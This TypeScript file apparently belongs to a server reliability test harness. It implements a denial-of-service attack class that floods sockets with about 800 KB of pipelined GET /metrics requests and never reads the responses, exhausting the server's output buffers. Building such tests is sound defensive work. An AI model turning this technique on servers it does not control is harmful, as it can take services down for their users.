/** Attack 1: pipelined requests for an answer much larger than the request, on sockets that read nothing (reliability 213). */
import { type Attack, attackerAt, Counts, type Figures, type Target } from './attack.ts';
import { headOf, Wires } from './wire.ts';

const PIPELINE_BYTES = 800_000;
/** Longer than a server of ours bears unread output. */
const RENEW_MS = 40_000;

export class UnreadPipelines implements Attack {
  readonly #counts = new Counts();
  readonly #count: number;
  #wires: Wires | undefined;

  /** @param intensity sockets at a time */
  constructor(intensity: number) {
    this.#count = intensity;
  }

  async start(target: Target): Promise<void> {
    const pipelines = Array.from({ length: 4 }, (_, index) => {
      const head = headOf(target, 'GET', '/metrics', attackerAt(index));
      return Buffer.from(head.repeat(Math.ceil(PIPELINE_BYTES / head.length)));
    });
    const bytes = (index: number): Buffer => pipelines[index % pipelines.length]!;
    const plan = { count: this.#count, from: attackerAt, bytes, isReading: false, renewMs: RENEW_MS, reopenMs: 1000 };
    this.#wires = new Wires(target, plan, this.#counts);
    this.#wires.open();
  }

  stop(): void {
    this.#wires?.close();
  }

  get figures(): Figures {
    return this.#counts.figures;
  }
}
